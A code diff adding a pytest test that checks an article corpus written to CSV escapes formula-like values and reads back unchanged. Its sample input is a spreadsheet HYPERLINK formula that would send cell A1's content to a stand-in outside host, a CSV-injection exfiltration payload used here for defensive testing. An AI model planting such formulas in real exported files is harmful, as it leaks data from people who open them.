@@ -166,3 +166,18 @@ def test_an_address_is_no_source_but_something_to_harvest() -> None:
 def test_a_mistyped_url_does_not_show_its_password() -> None:
     with pytest.raises(InputError, match=r"No file 'mysql:/lecteur:\*\*\*@base/osiris'"):
         list(read_articles("mysql:/lecteur:secret@base/osiris"))
+
+
+def test_a_corpus_written_as_csv_holds_no_formula_and_comes_back_as_it_was(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://exemple.sn/?"&A1;"clic")'
+    articles = [
+        Article(
+            id="@1", title=formula, text="-2+3 et +4", labels=("Fintech",), meta={"=note": "+x"}
+        ),
+        Article(id="2", title="'=déjà guillemeté", text="", labels=("Wave",)),
+    ]
+
+    write_articles(articles, tmp_path / "lot.csv")
+
+    assert f"'{formula}" in (tmp_path / "lot.csv").read_text("utf-8").replace('""', '"')
+    assert list(read_articles(tmp_path / "lot.csv")) == articles
